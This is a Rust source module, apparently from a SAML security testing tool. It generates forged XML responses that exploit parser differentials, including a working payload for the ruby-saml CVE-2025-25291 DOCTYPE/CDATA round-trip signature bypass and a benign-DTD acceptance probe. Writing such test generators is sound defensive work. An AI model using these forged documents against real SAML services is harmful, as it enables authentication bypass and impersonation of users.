//! Parser differentials: documents two parsers read differently.

use crate::bytes::{before_end_tag, Doc};
use crate::family::{forge_document, forged};
use crate::forge::{Forge, Forged, Skip};

/// The DOCTYPE quote/comment round trip (ruby-saml CVE-2025-25291): a parser that honours the
/// single-quoted SYSTEM literal sees the forged Response; one that reads a re-serialised copy
/// (the literal re-quoted with `"`) sees the original inside what was a CDATA section.
pub fn doctype_round_trip(f: &Forge) -> Result<Forged, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let end = before_end_tag(doc.src, doc.root());
    let (forged_xml, swap) = forge_document(&doc);
    let forged_doc = Doc::parse_built(&forged_xml)?;
    let forged_end = before_end_tag(&forged_xml, forged_doc.root());
    let xml = format!(
        "<!DOCTYPE response SYSTEM 'x\"><!--'>{}<![CDATA[-->{}<!--]]>-->{}",
        &forged_xml[..forged_end],
        &doc.src[..end],
        &doc.src[end..]
    );
    forged(xml, swap)
}

/// A benign internal DOCTYPE before the signed response (no entities): the signature stays
/// valid; an SP should refuse DTDs outright (defence in depth since CVE-2018-0486).
pub fn doctype_benign(f: &Forge) -> Result<Forged, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let name = doc.root().tag_name().name();
    Ok(Forged::same_identity(format!(
        "<!DOCTYPE {name} [ ]>{seed}"
    )))
}
